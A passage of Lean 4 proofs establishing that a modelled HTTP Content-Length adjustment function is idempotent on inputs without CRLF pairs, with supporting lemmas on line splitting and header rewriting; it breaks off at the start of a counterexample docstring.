    · rw [if_pos ha]
      simp only [List.map_cons]
      congr 1
      have e1 : (clLine n).isEmpty = false := by
        cases hcl : clLine n with
        | nil => exact absurd hcl (clLine_ne_nil n)
        | cons x xs => rfl
      have e2 : a.isEmpty = false := by
        cases hca : a with
        | nil => exact absurd hca (startsWithCLHeader_ne_nil a ha)
        | cons x xs => rfl
      rw [e1, e2]
    · rw [if_neg ha]
      simp only [List.map_cons, ih]

/-- The rewriting loop preserves the number of lines. -/
theorem replaceCL_length (ls : List (List Char)) (n : Nat) :
    (replaceCL ls n).1.length = ls.length := by
  have h := replaceCL_map_isEmpty ls n
  have := congrArg List.length h
  simpa using this

/-- A negative search leaves the lines untouched and means no line matches. -/
theorem replaceCL_not_found (ls : List (List Char)) (n : Nat)
    (h : (replaceCL ls n).2 = false) :
    (replaceCL ls n).1 = ls ∧ ∀ l ∈ ls, startsWithCLHeader l = false := by
  induction ls with
  | nil => exact ⟨rfl, by simp⟩
  | cons a rest ih =>
    rw [replaceCL] at h ⊢
    by_cases ha : startsWithCLHeader a
    · rw [if_pos ha] at h
      simp at h
    · rw [if_neg ha] at h ⊢
      have h0 : (replaceCL rest n).2 = false := h
      obtain ⟨h1, h2⟩ := ih h0
      refine ⟨?_, ?_⟩
      · show a :: (replaceCL rest n).1 = a :: rest
        rw [h1]
      intro l hl
      rcases List.mem_cons.mp hl with h3 | h3
      · rw [h3]
        simpa using ha
      · exact h2 l h3

/-- Rewriting the already-rewritten lines changes nothing. -/
theorem replaceCL_idem (ls : List (List Char)) (n : Nat) :
    replaceCL ((replaceCL ls n).1) n = ((replaceCL ls n).1, (replaceCL ls n).2) := by
  induction ls with
  | nil => rfl
  | cons a rest ih =>
    rw [replaceCL]
    by_cases ha : startsWithCLHeader a
    · rw [if_pos ha]
      simp only [replaceCL]
      rw [if_pos (startsWithCLHeader_clLine n)]
    · rw [if_neg ha]
      simp only [replaceCL]
      rw [if_neg ha, ih]

/-- Appending the canonical line to unmatched lines: found at the end. -/
theorem replaceCL_snoc (ls : List (List Char)) (n : Nat)
    (h : ∀ l ∈ ls, startsWithCLHeader l = false) :
    replaceCL (ls ++ [clLine n]) n = (ls ++ [clLine n], true) := by
  induction ls with
  | nil =>
    simp only [List.nil_append, replaceCL]
    rw [if_pos (startsWithCLHeader_clLine n)]
  | cons a rest ih =>
    rw [List.cons_append, replaceCL]
    have ha : startsWithCLHeader a = false := h a (List.mem_cons_self a rest)
    rw [if_neg (by simp [ha])]
    rw [ih (fun l hl => h l (List.mem_cons.mpr (Or.inr hl)))]

/-- The rewriting loop cannot produce the single-empty-line list from
anything else. -/
theorem replaceCL_eq_singleton_nil (ls : List (List Char)) (n : Nat)
    (h : (replaceCL ls n).1 = [[]]) : ls = [[]] := by
  have hm := replaceCL_map_isEmpty ls n
  rw [h] at hm
  cases ls with
  | nil => simp at hm
  | cons a rest =>
    cases rest with
    | nil =>
      simp only [List.map_cons, List.map_nil] at hm
      injection hm with hm1
      have : a = [] := List.isEmpty_iff.mp hm1.symm
      rw [this]
    | cons b rest2 => simp at hm

/-- A newline-free prefix is invisible to the blank-line test. -/
theorem containsSub_sep_append_left (a : List Char) (ha : '\n' ∉ a) :
    ∀ l : List Char, containsSub ['\n', '\n'] (a ++ l) = containsSub ['\n', '\n'] l := by
  induction a with
  | nil => intro l; rfl
  | cons c a2 ih =>
    intro l
    have hc : ¬ c = '\n' := fun hh => ha (hh ▸ List.mem_cons_self c a2)
    rw [List.cons_append, containsSub]
    have hpre : ['\n', '\n'].isPrefixOf (c :: (a2 ++ l)) = false := by
      simp only [List.isPrefixOf, Bool.and_eq_false_iff]
      left
      simp [beq_eq_false_iff_ne]
      intro hh
      exact hc hh.symm
    rw [hpre, ih (fun hh => ha (List.mem_cons.mpr (Or.inr hh))) l]
    simp

/-- The blank-line test on a join of newline-free lines sees exactly the
empty interior lines. -/
theorem containsSub_sep_interNl : ∀ ls : List (List Char),
    (∀ l ∈ ls, '\n' ∉ l) →
    containsSub ['\n', '\n'] (interNl ls) =
      ((ls.drop 1).dropLast.any (fun l => l.isEmpty)) := by
  intro ls
  induction ls with
  | nil => intro _; rfl
  | cons a ls2 ih =>
    intro hnl
    have hanl : '\n' ∉ a := hnl a (List.mem_cons_self a ls2)
    cases ls2 with
    | nil =>
      rw [interNl]
      rw [show (containsSub ['\n', '\n'] a) =
        containsSub ['\n', '\n'] (a ++ []) by rw [List.append_nil]]
      rw [containsSub_sep_append_left a hanl]
      rfl
    | cons b rest =>
      have hnl2 : ∀ l ∈ b :: rest, '\n' ∉ l :=
        fun l hl => hnl l (List.mem_cons.mpr (Or.inr hl))
      have hbnl : '\n' ∉ b := hnl2 b (List.mem_cons_self b rest)
      rw [interNl_cons, if_neg (by simp)]
      rw [containsSub_sep_append_left a hanl]
      rw [containsSub]
      have hih := ih hnl2
      rw [hih]
      have hpre : ['\n', '\n'].isPrefixOf ('\n' :: interNl (b :: rest)) =
          (decide (b = []) && decide (rest ≠ [])) := by
        rw [interNl_cons]
        cases hb : b with
        | nil =>
          cases hrest : rest with
          | nil => simp [List.isPrefixOf]
          | cons r rest2 =>
            rw [if_neg (by simp)]
            simp [List.isPrefixOf]
        | cons d ds =>
          have hd : ¬ ('\n' : Char) = d := by
            intro hh
            exact hbnl (by rw [hb, ← hh]; exact List.mem_cons_self _ _)
          by_cases hrest : rest = []
          · subst hrest
            simp [List.isPrefixOf, hd]
          · rw [if_neg hrest]
            simp [List.isPrefixOf, hd, hrest]
      rw [hpre]
      cases hrest : rest with
      | nil =>
        simp [List.isEmpty_iff]
      | cons r rest2 =>
        simp only [List.dropLast_cons₂, List.drop_succ_cons, List.drop_zero,
          List.any_cons]
        have hb : decide (b = []) = b.isEmpty := by
          cases b <;> simp
        simp [hb]

/-- `any` of an emptiness test commutes with `map (isEmpty)`. -/
theorem any_map_isEmpty (ls : List (List Char)) (p : Bool → Bool) :
    (ls.map (fun l => l.isEmpty)).any p = ls.any (fun l => p l.isEmpty) := by
  induction ls with
  | nil => rfl
  | cons a r ih => simp [List.any_cons, ih]

/-- Lists with the same per-line emptiness pattern agree on the
blank-interior test. -/
theorem innerAny_congr (ls ls2 : List (List Char))
    (h : ls.map (fun l => l.isEmpty) = ls2.map (fun l => l.isEmpty)) :
    (ls.drop 1).dropLast.any (fun l => l.isEmpty) =
      (ls2.drop 1).dropLast.any (fun l => l.isEmpty) := by
  have e : ∀ m : List (List Char),
      (m.drop 1).dropLast.any (fun l => l.isEmpty) =
        (((m.map (fun l => l.isEmpty)).drop 1).dropLast).any (fun x => x) := by
    intro m
    rw [← List.map_drop, ← List.map_dropLast, any_map_isEmpty]
  rw [e, e, h]

/-- Lists with the same per-line emptiness pattern agree on last-line
emptiness. -/
theorem getLast_isEmpty_congr (ls ls2 : List (List Char))
    (h : ls.map (fun l => l.isEmpty) = ls2.map (fun l => l.isEmpty)) :
    ls.getLast?.map (fun l => l.isEmpty) =
      ls2.getLast?.map (fun l => l.isEmpty) := by
  rw [← List.getLast?_map, ← List.getLast?_map, h]

/-- A nonempty last line survives to a list with the same emptiness
pattern. -/
theorem getLast_ne_nil_of_map_isEmpty (ls ls2 : List (List Char))
    (hm : ls.map (fun l => l.isEmpty) = ls2.map (fun l => l.isEmpty))
    (h : ls.getLast? ≠ some []) : ls2.getLast? ≠ some [] := by
  intro hc
  have e := getLast_isEmpty_congr ls ls2 hm
  rw [hc] at e
  cases hl : ls.getLast? with
  | none => rw [hl] at e; simp at e
  | some l =>
    rw [hl] at e
    simp only [Option.map_some'] at e
    injection e with e1
    exact h (by rw [hl, List.isEmpty_iff.mp e1])

/-- The blank-line pattern occurs in any text that spells it out. -/
theorem containsSub_sep_mid (x y : List Char) :
    containsSub ['\n', '\n'] (x ++ '\n' :: '\n' :: y) = true := by
  refine containsSub_append_right _ _ ?_ x
  rw [containsSub]
  simp [List.isPrefixOf]

/-- When the text is nonempty and does not end in a newline, the last split
line is nonempty. -/
theorem splitNl_getLast_ne_nil : ∀ h : List Char, h ≠ [] →
    h.getLast? ≠ some '\n' → (splitNl h).getLast? ≠ some [] := by
  intro h
  induction h with
  | nil => intro hne _; exact absurd rfl hne
  | cons c rest ih =>
    intro _ hlast
    cases rest with
    | nil =>
      have hc : ¬ c = '\n' := by simpa using hlast
      rw [splitNl, if_neg hc]
      simp only [splitNl]
      intro hcon
      injection hcon with hcon1
      cases hcon1
    | cons r rest2 =>
      have hlast2 : (r :: rest2).getLast? ≠ some '\n' := by
        rwa [List.getLast?_cons_cons] at hlast
      have hrec := ih (by simp) hlast2
      by_cases hc : c = '\n'
      · subst hc
        rw [splitNl, if_pos rfl]
        cases hs : splitNl (r :: rest2) with
        | nil => exact absurd hs (splitNl_ne_nil _)
        | cons m ms =>
          rw [List.getLast?_cons_cons]
          rw [hs] at hrec
          exact hrec
      · rw [splitNl, if_neg hc]
        cases hs : splitNl (r :: rest2) with
        | nil => exact absurd hs (splitNl_ne_nil _)
        | cons m ms =>
          rw [hs] at hrec
          cases ms with
          | nil =>
            simp only [List.getLast?_cons, List.getLast?_nil]
            intro hcon
            injection hcon with hcon1
            cases hcon1
          | cons m2 ms2 =>
            rw [List.getLast?_cons_cons]
            rwa [List.getLast?_cons_cons] at hrec

/-- The join of newline-free lines whose last line is nonempty does not end
in a newline. -/
theorem interNl_getLast_ne_nl : ∀ ls : List (List Char),
    (∀ l ∈ ls, '\n' ∉ l) → ls.getLast? ≠ some [] →
    (interNl ls).getLast? ≠ some '\n' := by
  intro ls
  induction ls with
  | nil => intro _ _; rw [interNl]; simp
  | cons l ls2 ih =>
    intro hnl hlast
    cases ls2 with
    | nil =>
      rw [interNl]
      intro hcon
      obtain ⟨ys, hys⟩ := List.getLast?_eq_some_iff.mp hcon
      exact hnl l (List.mem_cons_self _ _) (by rw [hys]; simp)
    | cons l2 ls3 =>
      rw [interNl_cons, if_neg (by simp)]
      have hlast2 : (l2 :: ls3).getLast? ≠ some [] := by
        rwa [List.getLast?_cons_cons] at hlast
      have hrec := ih (fun x hx => hnl x (List.mem_cons.mpr (Or.inr hx))) hlast2
      rw [List.getLast?_append_of_ne_nil _ (by simp)]
      cases hi : interNl (l2 :: ls3) with
      | nil =>
        rcases (interNl_eq_nil_iff (l2 :: ls3)).mp hi with hcon | hcon
        · cases hcon
        · injection hcon with h1 h2
          subst h1; subst h2
          exact absurd rfl hlast2
      | cons x xs =>
        rw [List.getLast?_cons_cons]
        rwa [hi] at hrec

/-- The rewriting loop preserves newline-freeness of the lines. -/
theorem replaceCL_no_nl (ls : List (List Char)) (n : Nat)
    (h : ∀ l ∈ ls, '\n' ∉ l) : ∀ l ∈ (replaceCL ls n).1, '\n' ∉ l := by
  intro l hl
  rcases replaceCL_mem ls n l hl with h2 | h2
  · exact h l h2
  · rw [h2]
    intro hmem
    exact (clLine_no_nl_cr n '\n' hmem).1 rfl

/-- Lines of `aclLines` are newline-free. -/
theorem aclLines_no_nl (h : List Char) : ∀ l ∈ aclLines h, '\n' ∉ l := by
  intro l hl
  unfold aclLines at hl
  by_cases hh : h = []
  · rw [if_pos hh] at hl; simp at hl
  · rw [if_neg hh] at hl
    exact mem_splitNl_no_nl h l hl

/-- Joining the lines of `aclLines` restores the head. -/
theorem interNl_aclLines (h : List Char) : interNl (aclLines h) = h := by
  unfold aclLines
  by_cases hh : h = []
  · rw [if_pos hh, hh]; rfl
  · rw [if_neg hh]; exact interNl_splitNl h

/-- `any` over a list as `any` over its front plus its last element. -/
theorem any_eq_dropLast_or_getLast (m : List (List Char)) :
    m.any (fun l => l.isEmpty) =
      (m.dropLast.any (fun l => l.isEmpty) ||
        (m.getLast?.map (fun l => l.isEmpty)).getD false) := by
  induction m with
  | nil => rfl
  | cons a tl ih =>
    cases tl with
    | nil => simp
    | cons b tl2 =>
      rw [List.any_cons, ih, List.dropLast_cons₂, List.getLast?_cons_cons,
        List.any_cons, Bool.or_assoc]

/-- Dropping only the first element keeps `any` false when the interior has
no empty line and the last line is nonempty. -/
theorem any_drop_one_eq_false (ls : List (List Char))
    (hinner : (ls.drop 1).dropLast.any (fun l => l.isEmpty) = false)
    (hlast : ls.getLast? ≠ some []) :
    (ls.drop 1).any (fun l => l.isEmpty) = false := by
  cases ls with
  | nil => rfl
  | cons a tl =>
    simp only [List.drop_succ_cons, List.drop_zero] at hinner ⊢
    rw [any_eq_dropLast_or_getLast, hinner, Bool.false_or]
    cases htl : tl.getLast? with
    | none => rfl
    | some x =>
      have hx : x ≠ [] := by
        intro hcon
        subst hcon
        cases tl with
        | nil => simp at htl
        | cons b tl2 =>
          rw [List.getLast?_cons_cons] at hlast
          exact hlast htl
      simp only [Option.map_some', Option.getD_some]
      cases hxe : x with
      | nil => exact absurd rfl (hxe ▸ hx)
      | cons y ys => rfl

/-- `aclCore` is the identity on a rebuilt head/body form whose head joins
back from its own lines and whose header rewriting is already settled. -/
theorem aclCore_rebuilt_sep (H b : List Char)
    (hsep : containsSub ['\n', '\n'] H = false)
    (hlast : H.getLast? ≠ some '\n')
    (hfix : (replaceCL (aclLines H) (utf8Len b)).1 = aclLines H)
    (hr2 : (replaceCL (aclLines H) (utf8Len b)).2 = false → b = []) :
    aclCore (H ++ '\n' :: '\n' :: b)
      (containsSub ['\n', '\n'] (H ++ '\n' :: '\n' :: b)) =
      H ++ '\n' :: '\n' :: b := by
  have hsp : splitSep (H ++ '\n' :: '\n' :: b) = some (H, b) :=
    splitSep_append H b hsep hlast
  have hcs : containsSub ['\n', '\n'] (H ++ '\n' :: '\n' :: b) = true :=
    containsSub_sep_mid H b
  cases hrv : (replaceCL (aclLines H) (utf8Len b)).2 with
  | false =>
    have hb0 := hr2 hrv
    subst hb0
    simp only [aclCore, hsp, hcs, hrv]
    simp [hfix, interNl_aclLines]
  | true =>
    simp only [aclCore, hsp, hcs, hrv]
    simp [hfix, interNl_aclLines]

/-- `aclCore` is the identity on a rebuilt headers-only form with no blank
line, whose text joins back from its own lines and whose header rewriting
is already settled. -/
theorem aclCore_rebuilt_nosep (H : List Char)
    (hsep : containsSub ['\n', '\n'] H = false)
    (hfix : (replaceCL (aclLines H) 0).1 = aclLines H) :
    aclCore H (containsSub ['\n', '\n'] H) = H := by
  have hsp : splitSep H = none := (splitSep_eq_none_iff H).mpr hsep
  simp only [aclCore, hsp, hsep]
  simp [utf8Len, hfix, interNl_aclLines]

/-- The headers-only output shape of `aclCore` is itself a fixed point of
`aclCore`. -/
theorem aclCore_fixed_nosep_aux (X : List (List Char))
    (hXnl : ∀ l ∈ X, '\n' ∉ l)
    (hinner : (X.drop 1).dropLast.any (fun l => l.isEmpty) = false) :
    aclCore (interNl (replaceCL X 0).1)
      (containsSub ['\n', '\n'] (interNl (replaceCL X 0).1)) =
      interNl (replaceCL X 0).1 := by
  have hrnl : ∀ l ∈ (replaceCL X 0).1, '\n' ∉ l := replaceCL_no_nl X 0 hXnl
  have hinner_r :
      ((replaceCL X 0).1.drop 1).dropLast.any (fun l => l.isEmpty) = false := by
    rw [innerAny_congr _ X (replaceCL_map_isEmpty X 0)]
    exact hinner
  have hsep : containsSub ['\n', '\n'] (interNl (replaceCL X 0).1) = false := by
    rw [containsSub_sep_interNl _ hrnl]
    exact hinner_r
  apply aclCore_rebuilt_nosep _ hsep
  by_cases hH : interNl (replaceCL X 0).1 = []
  · rw [hH]
    rfl
  · have hRne : (replaceCL X 0).1 ≠ [] := by
      intro hcon
      rw [hcon] at hH
      exact hH rfl
    have hal : aclLines (interNl (replaceCL X 0).1) = (replaceCL X 0).1 := by
      unfold aclLines
      rw [if_neg hH]
      exact splitNl_interNl _ hRne hrnl
    rw [hal, replaceCL_idem X 0]

/-- The head-plus-body output shape of `aclCore` with the header rewriting
already settled is itself a fixed point of `aclCore`. -/
theorem aclCore_fixed_sep_aux (X : List (List Char)) (b : List Char)
    (hXnl : ∀ l ∈ X, '\n' ∉ l)
    (hinner : (X.drop 1).dropLast.any (fun l => l.isEmpty) = false)
    (hlastX : X.getLast? ≠ some [])
    (hbr : (replaceCL X (utf8Len b)).2 = false → b = []) :
    aclCore (interNl (replaceCL X (utf8Len b)).1 ++ '\n' :: '\n' :: b)
      (containsSub ['\n', '\n']
        (interNl (replaceCL X (utf8Len b)).1 ++ '\n' :: '\n' :: b)) =
      interNl (replaceCL X (utf8Len b)).1 ++ '\n' :: '\n' :: b := by
  have hrnl : ∀ l ∈ (replaceCL X (utf8Len b)).1, '\n' ∉ l :=
    replaceCL_no_nl X (utf8Len b) hXnl
  have hmap := replaceCL_map_isEmpty X (utf8Len b)
  have hinner_r :
      ((replaceCL X (utf8Len b)).1.drop 1).dropLast.any
        (fun l => l.isEmpty) = false := by
    rw [innerAny_congr _ X hmap]
    exact hinner
  have hlast_r : (replaceCL X (utf8Len b)).1.getLast? ≠ some [] :=
    getLast_ne_nil_of_map_isEmpty X _ hmap.symm hlastX
  have hsep :
      containsSub ['\n', '\n'] (interNl (replaceCL X (utf8Len b)).1) = false := by
    rw [containsSub_sep_interNl _ hrnl]
    exact hinner_r
  have hlast : (interNl (replaceCL X (utf8Len b)).1).getLast? ≠ some '\n' :=
    interNl_getLast_ne_nl _ hrnl hlast_r
  have hal : aclLines (interNl (replaceCL X (utf8Len b)).1) =
      (replaceCL X (utf8Len b)).1 := by
    by_cases hH : interNl (replaceCL X (utf8Len b)).1 = []
    · rcases (interNl_eq_nil_iff _).mp hH with hcon | hcon
      · rw [hH, hcon]
        rfl
      · have hX11 : X = [[]] := replaceCL_eq_singleton_nil X _ hcon
        rw [hX11] at hlastX
        exact absurd rfl hlastX
    · unfold aclLines
      rw [if_neg hH]
      exact splitNl_interNl _ (fun hcon => hH (by rw [hcon]; rfl)) hrnl
  apply aclCore_rebuilt_sep _ _ hsep hlast
  · rw [hal, replaceCL_idem X (utf8Len b)]
  · rw [hal, replaceCL_idem X (utf8Len b)]
    exact hbr

/-- The output shape of `aclCore` with a blank line and a freshly appended
`Content-Length` line is itself a fixed point of `aclCore`. -/
theorem aclCore_fixed_snoc_aux (X : List (List Char)) (b : List Char)
    (hXnl : ∀ l ∈ X, '\n' ∉ l)
    (hinner : (X.drop 1).dropLast.any (fun l => l.isEmpty) = false)
    (hlastX : X.getLast? ≠ some [])
    (hnm : ∀ l ∈ X, startsWithCLHeader l = false) :
    aclCore (interNl (X ++ [clLine (utf8Len b)]) ++ '\n' :: '\n' :: b)
      (containsSub ['\n', '\n']
        (interNl (X ++ [clLine (utf8Len b)]) ++ '\n' :: '\n' :: b)) =
      interNl (X ++ [clLine (utf8Len b)]) ++ '\n' :: '\n' :: b := by
  have hsnoc := replaceCL_snoc X (utf8Len b) hnm
  have hL : ∀ l ∈ X ++ [clLine (utf8Len b)], '\n' ∉ l := by
    intro l hl
    rcases List.mem_append.mp hl with h1 | h1
    · exact hXnl l h1
    · rw [List.mem_singleton.mp h1]
      intro hmem
      exact (clLine_no_nl_cr _ '\n' hmem).1 rfl
  have hdrop := any_drop_one_eq_false X hinner hlastX
  have hinner2 :
      ((X ++ [clLine (utf8Len b)]).drop 1).dropLast.any
        (fun l => l.isEmpty) = false := by
    cases X with
    | nil => rfl
    | cons a tl =>
      simp only [List.drop_succ_cons, List.drop_zero] at hdrop
      simp only [List.cons_append, List.drop_succ_cons, List.drop_zero]
      rw [List.dropLast_concat]
      exact hdrop
  have hlastne : (X ++ [clLine (utf8Len b)]).getLast? ≠ some [] := by
    rw [List.getLast?_concat]
    intro hcon
    injection hcon with h1
    exact clLine_ne_nil _ h1
  have hsep :
      containsSub ['\n', '\n'] (interNl (X ++ [clLine (utf8Len b)])) = false := by
    rw [containsSub_sep_interNl _ hL]
    exact hinner2
  have hlast : (interNl (X ++ [clLine (utf8Len b)])).getLast? ≠ some '\n' :=
    interNl_getLast_ne_nl _ hL hlastne
  have hne : interNl (X ++ [clLine (utf8Len b)]) ≠ [] := by
    intro hcon
    rcases (interNl_eq_nil_iff _).mp hcon with h1 | h1
    · exact (by simp : X ++ [clLine (utf8Len b)] ≠ []) h1
    · have h2 := congrArg List.getLast? h1
      rw [List.getLast?_concat,
        show ([[]] : List (List Char)).getLast? = some [] from rfl] at h2
      injection h2 with h3
      exact clLine_ne_nil _ h3
  have hal : aclLines (interNl (X ++ [clLine (utf8Len b)])) =
      X ++ [clLine (utf8Len b)] := by
    unfold aclLines
    rw [if_neg hne]
    exact splitNl_interNl _ (by simp) hL
  apply aclCore_rebuilt_sep _ _ hsep hlast
  · rw [hal, hsnoc]
  · rw [hal, hsnoc]
    intro hcon
    simp at hcon

/-- One pass of `aclCore` reaches a fixed point: a second pass on its
output, with the blank-line flag recomputed on that output, returns it
unchanged — provided the first pass's flag implied an actual blank line in
the normalised text. -/
theorem aclCore_fixed (text : List Char) (s : Bool)
    (hs : s = true → containsSub ['\n', '\n'] text = true) :
    aclCore (aclCore text s) (containsSub ['\n', '\n'] (aclCore text s)) =
      aclCore text s := by
  cases hsp : splitSep text with
  | none =>
    have hcs : containsSub ['\n', '\n'] text = false :=
      (splitSep_eq_none_iff text).mp hsp
    have hsf : s = false := by
      cases s with
      | false => rfl
      | true => exact absurd (hs rfl) (by rw [hcs]; exact Bool.false_ne_true)
    subst hsf
    have hout : aclCore text false = interNl (replaceCL (aclLines text) 0).1 := by
      simp only [aclCore, hsp]
      simp [utf8Len]
    rw [hout]
    apply aclCore_fixed_nosep_aux (aclLines text) (aclLines_no_nl text)
    by_cases hh : text = []
    · subst hh
      rfl
    · have hX : aclLines text = splitNl text := by
        unfold aclLines
        rw [if_neg hh]
      rw [hX, ← containsSub_sep_interNl (splitNl text) (mem_splitNl_no_nl text),
        interNl_splitNl]
      exact hcs
  | some p =>
    obtain ⟨h, b⟩ := p
    obtain ⟨htext, hhsep, hhlast⟩ := splitSep_some_spec text h b hsp
    have hXnl : ∀ l ∈ aclLines h, '\n' ∉ l := aclLines_no_nl h
    have hinnerX :
        ((aclLines h).drop 1).dropLast.any (fun l => l.isEmpty) = false := by
      by_cases hh : h = []
      · subst hh
        rfl
      · have hX : aclLines h = splitNl h := by
          unfold aclLines
          rw [if_neg hh]
        rw [hX, ← containsSub_sep_interNl (splitNl h) (mem_splitNl_no_nl h),
          interNl_splitNl]
        exact hhsep
    have hlastX : (aclLines h).getLast? ≠ some [] := by
      by_cases hh : h = []
      · subst hh
        simp [aclLines]
      · have hX : aclLines h = splitNl h := by
          unfold aclLines
          rw [if_neg hh]
        rw [hX]
        exact splitNl_getLast_ne_nil h hh hhlast
    by_cases hb0 : b = []
    · subst hb0
      by_cases hst : s = true
      · subst hst
        have hout : aclCore text true =
            interNl (replaceCL (aclLines h) 0).1 ++ '\n' :: '\n' :: [] := by
          simp only [aclCore, hsp]
          simp [utf8Len]
        rw [hout]
        exact aclCore_fixed_sep_aux (aclLines h) [] hXnl hinnerX hlastX
          (fun _ => rfl)
      · have hsf : s = false := by
          cases s with
          | false => rfl
          | true => exact absurd rfl hst
        subst hsf
        have hout : aclCore text false =
            interNl (replaceCL (aclLines h) 0).1 := by
          simp only [aclCore, hsp]
          simp [utf8Len]
        rw [hout]
        exact aclCore_fixed_nosep_aux (aclLines h) hXnl hinnerX
    · cases hrv : (replaceCL (aclLines h) (utf8Len b)).2 with
      | true =>
        have hout : aclCore text s =
            interNl (replaceCL (aclLines h) (utf8Len b)).1 ++
              '\n' :: '\n' :: b := by
          simp only [aclCore, hsp]
          simp [hrv, hb0]
        rw [hout]
        refine aclCore_fixed_sep_aux (aclLines h) b hXnl hinnerX hlastX ?_
        intro hcon
        rw [hrv] at hcon
        exact Bool.noConfusion hcon
      | false =>
        have hnf := replaceCL_not_found (aclLines h) (utf8Len b) hrv
        have hout : aclCore text s =
            interNl (aclLines h ++ [clLine (utf8Len b)]) ++
              '\n' :: '\n' :: b := by
          simp only [aclCore, hsp]
          simp [hrv, hb0, hnf.1]
        rw [hout]
        exact aclCore_fixed_snoc_aux (aclLines h) b hXnl hinnerX hlastX hnf.2

/-- Characters of `aclLines` come from the head. -/
theorem mem_of_mem_aclLines (x l : List Char) (c : Char)
    (hl : l ∈ aclLines x) (hc : c ∈ l) : c ∈ x := by
  unfold aclLines at hl
  by_cases hx : x = []
  · rw [if_pos hx] at hl
    simp at hl
  · rw [if_neg hx] at hl
    exact mem_of_mem_splitNl x l c hl hc

/-- Characters of a rewritten head's join are newlines, head characters,
or `Content-Length` line characters; none is a carriage return when the
head is CR-free. -/
theorem mem_rewritten_no_cr (hd : List Char) (n : Nat)
    (hhd : ∀ c ∈ hd, c ≠ '\x0d') (c : Char) :
    (c ∈ interNl (replaceCL (aclLines hd) n).1 → c ≠ '\x0d') ∧
      (c ∈ interNl ((replaceCL (aclLines hd) n).1 ++ [clLine n]) →
        c ≠ '\x0d') := by
  have hline : ∀ l ∈ (replaceCL (aclLines hd) n).1, ∀ d ∈ l, d ≠ '\x0d' := by
    intro l hl d hd2
    rcases replaceCL_mem _ n l hl with h1 | h1
    · exact hhd d (mem_of_mem_aclLines hd l d h1 hd2)
    · exact (clLine_no_nl_cr n d (h1 ▸ hd2)).2
  constructor
  · intro hc
    rcases mem_interNl _ c hc with h1 | ⟨l, hl, hcl⟩
    · rw [h1]; decide
    · exact hline l hl c hcl
  · intro hc
    rcases mem_interNl _ c hc with h1 | ⟨l, hl, hcl⟩
    · rw [h1]; decide
    · rcases List.mem_append.mp hl with h2 | h2
      · exact hline l h2 c hcl
      · exact (clLine_no_nl_cr n c ((List.mem_singleton.mp h2) ▸ hcl)).2

/-- `aclCore` introduces no carriage return: over CR-free text the output
is CR-free. -/
theorem aclCore_no_cr (text : List Char) (s : Bool)
    (ht : ∀ c ∈ text, c ≠ '\x0d') :
    ∀ c ∈ aclCore text s, c ≠ '\x0d' := by
  intro c hc
  cases hsp : splitSep text with
  | none =>
    simp only [aclCore, hsp] at hc
    split at hc
    · rcases List.mem_append.mp hc with h1 | h1
      · split at h1
        · exact (mem_rewritten_no_cr text _ ht c).2 h1
        · exact (mem_rewritten_no_cr text _ ht c).1 h1
      · rcases List.mem_cons.mp h1 with h2 | h2
        · rw [h2]; decide
        · rcases List.mem_cons.mp h2 with h3 | h3
          · rw [h3]; decide
          · simp at h3
    · split at hc
      · exact (mem_rewritten_no_cr text _ ht c).2 hc
      · exact (mem_rewritten_no_cr text _ ht c).1 hc
  | some p =>
    obtain ⟨hh, bb⟩ := p
    obtain ⟨htext, hx1, hx2⟩ := splitSep_some_spec text hh bb hsp
    have hhd : ∀ d ∈ hh, d ≠ '\x0d' := by
      intro d hd2
      exact ht d (by rw [htext]; exact List.mem_append.mpr (Or.inl hd2))
    have hbd : ∀ d ∈ bb, d ≠ '\x0d' := by
      intro d hd2
      refine ht d ?_
      rw [htext]
      refine List.mem_append.mpr (Or.inr ?_)
      exact List.mem_cons.mpr (Or.inr (List.mem_cons.mpr (Or.inr hd2)))
    simp only [aclCore, hsp] at hc
    split at hc
    · rcases List.mem_append.mp hc with h1 | h1
      · split at h1
        · exact (mem_rewritten_no_cr hh _ hhd c).2 h1
        · exact (mem_rewritten_no_cr hh _ hhd c).1 h1
      · rcases List.mem_cons.mp h1 with h2 | h2
        · rw [h2]; decide
        · rcases List.mem_cons.mp h2 with h3 | h3
          · rw [h3]; decide
          · exact hbd c h3
    · split at hc
      · exact (mem_rewritten_no_cr hh _ hhd c).2 hc
      · exact (mem_rewritten_no_cr hh _ hhd c).1 hc

/-- C6 (amended): `_adjust_content_length` is idempotent on every input
that contains no CRLF pair — applying it a second time returns the first
result unchanged. (On inputs with a CRLF the two applications can differ;
see the counterexample.) -/
theorem adjustContentLength_idem (raw : String)
    (h : containsSub ['\x0d', '\n'] raw.data = false) :
    adjustContentLength (adjustContentLength raw) = adjustContentLength raw := by
  have hnorm : normalizeNl raw.data = replaceCR raw.data := by
    unfold normalizeNl
    rw [replaceCRLF_eq_self raw.data h]
  have hout : adjustContentLength raw =
      ⟨aclCore (replaceCR raw.data) (containsSub ['\n', '\n'] raw.data)⟩ := by
    simp only [adjustContentLength, hnorm, h, Bool.false_eq_true, if_false]
  have hcrfree : ∀ c ∈ aclCore (replaceCR raw.data)
      (containsSub ['\n', '\n'] raw.data), c ≠ '\x0d' :=
    aclCore_no_cr _ _ (replaceCR_no_cr raw.data)
  have hcrlf2 : containsSub ['\x0d', '\n']
      (aclCore (replaceCR raw.data)
        (containsSub ['\n', '\n'] raw.data)) = false :=
    containsSub_crlf_eq_false _ hcrfree
  have hfix := aclCore_fixed (replaceCR raw.data)
    (containsSub ['\n', '\n'] raw.data)
    (fun hst => containsSub_sep_replaceCR raw.data hst)
  rw [hout]
  have hdata : (⟨aclCore (replaceCR raw.data)
      (containsSub ['\n', '\n'] raw.data)⟩ : String).data =
      aclCore (replaceCR raw.data) (containsSub ['\n', '\n'] raw.data) := rfl
  have hnorm2 : normalizeNl (aclCore (replaceCR raw.data)
      (containsSub ['\n', '\n'] raw.data)) =
      aclCore (replaceCR raw.data) (containsSub ['\n', '\n'] raw.data) := by
    unfold normalizeNl
    rw [replaceCRLF_eq_self _ hcrlf2, replaceCR_eq_self _ hcrfree]
  simp only [adjustContentLength, hdata, hcrlf2, hnorm2,
    Bool.false_eq_true, if_false]
  rw [hfix]

/-- C6 witness: idempotence at a concrete LF-only request with a body. -/
theorem adjustContentLength_idem_witness :
    containsSub ['\x0d', '\n']
      ("POST /x HTTP/1.1\nHost: h\n\nabc" : String).data = false ∧
    adjustContentLength
        (adjustContentLength "POST /x HTTP/1.1\nHost: h\n\nabc") =
      adjustContentLength "POST /x HTTP/1.1\nHost: h\n\nabc" :=
  ⟨by decide, adjustContentLength_idem "POST /x HTTP/1.1\nHost: h\n\nabc"
    (by decide)⟩

/-- C6 (corrected, counterexample): `_adjust_content_length` is not
